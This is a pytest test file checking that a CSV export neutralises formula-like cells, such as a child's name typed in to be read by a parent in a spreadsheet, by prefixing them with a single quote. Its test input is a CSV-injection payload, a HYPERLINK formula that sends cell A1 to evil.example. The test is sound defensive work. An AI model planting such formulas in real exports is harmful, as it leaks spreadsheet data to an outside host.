"""The CSV tables of an export, as a spreadsheet program opens them: no cell is ever read as a formula."""

import csv
import io

import pytest

from domain.export import README_TEXT, csv_rows, write_csv

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _written(items: list[dict[str, object]]) -> str:
    stream = io.BytesIO()
    write_csv(stream, csv_rows(items))
    return stream.getvalue().decode("utf-8")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_a_quote_and_quoted(start):
    # Given a child's name (written by the child, read by the parent in a spreadsheet) that starts a formula
    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    # When the export writes it to CSV
    text = _written([{"given_name": name}])
    # Then the cell holds the text with a single quote in front, inside double quotes
    _header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert row == ["'" + name]
    assert text.splitlines()[1].startswith("\"'")


def test_ordinary_cells_and_numbers_are_written_as_they_are():
    text = _written([{"name": "Ada", "points": -5, "note": "a-b = c", "empty": None}])
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["name", "points", "note", "empty"]
    assert row == ["Ada", "-5", "a-b = c", ""]


def test_the_readme_says_how_formula_like_cells_are_written():
    assert "single quote" in README_TEXT
